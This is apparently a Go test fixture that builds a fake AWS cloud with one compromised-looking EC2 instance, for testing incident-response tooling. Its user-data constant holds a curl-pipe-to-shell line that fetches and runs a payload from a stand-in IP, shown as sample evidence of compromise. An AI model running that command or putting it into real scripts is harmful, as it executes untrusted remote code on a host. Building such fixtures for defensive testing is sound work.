package fakeaws

import (
	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2/types"
)

// Suspect holds the IDs of the instance NewSuspect makes.
type Suspect struct {
	InstanceID    string
	VpcID         string
	SubnetID      string
	GroupID       string   // the "web" group on both interfaces
	DefaultGroup  string   // the VPC's default group, on no interface
	VolumeIDs     []string // root (/dev/xvda) first, then /dev/sdf
	InterfaceIDs  []string // primary (device index 0) first
	ProfileArn    string
	AssociationID string
}

// Suspect console output and user data, as NewSuspect configures them.
const (
	SuspectConsoleOutput = "[    0.000000] Linux version 6.1.0-amzn2023 (mockbuild@amazon.com)\nCloud-init v. 22.2.2 finished\n"
	SuspectUserData      = "#!/bin/bash\ncurl -s http://203.0.113.7/payload | sh\n"
)

// NewSuspect returns a new Cloud holding one running instance as an
// incident responder meets it: two EBS volumes, two network interfaces in a
// "web" group (SSH and HTTPS from anywhere, all outbound), an instance
// profile, console output, user data and a Name tag.
func NewSuspect() (*Cloud, Suspect) {
	c := New()
	vpcID := c.AddVPC()
	subnetID := c.AddSubnet(vpcID)
	anywhere := []types.IpRange{{CidrIp: aws.String("0.0.0.0/0")}}
	groupID := c.AddSecurityGroup(vpcID, "web", []types.IpPermission{
		{IpProtocol: aws.String("tcp"), FromPort: aws.Int32(22), ToPort: aws.Int32(22), IpRanges: anywhere},
		{IpProtocol: aws.String("tcp"), FromPort: aws.Int32(443), ToPort: aws.Int32(443), IpRanges: anywhere},
	}, DefaultEgress())
	profile := "arn:aws:iam::" + c.Account + ":instance-profile/web-server"
	id := c.AddInstance(InstanceSpec{
		VpcID:              vpcID,
		SubnetID:           subnetID,
		Volumes:            2,
		NetworkInterfaces:  2,
		SecurityGroupIDs:   []string{groupID},
		InstanceProfileArn: profile,
		ConsoleOutput:      SuspectConsoleOutput,
		UserData:           SuspectUserData,
		Tags:               map[string]string{"Name": "web-1"},
	})
	v := c.Instance(id)
	s := Suspect{
		InstanceID:    id,
		VpcID:         vpcID,
		SubnetID:      subnetID,
		GroupID:       groupID,
		DefaultGroup:  c.SecurityGroupsByName(vpcID, "default")[0],
		ProfileArn:    profile,
		AssociationID: aws.ToString(v.ProfileAssociation.AssociationId),
	}
	for _, m := range v.BlockDeviceMappings {
		s.VolumeIDs = append(s.VolumeIDs, aws.ToString(m.Ebs.VolumeId))
	}
	for _, n := range v.NetworkInterfaces {
		s.InterfaceIDs = append(s.InterfaceIDs, aws.ToString(n.NetworkInterfaceId))
	}
	return c, s
}
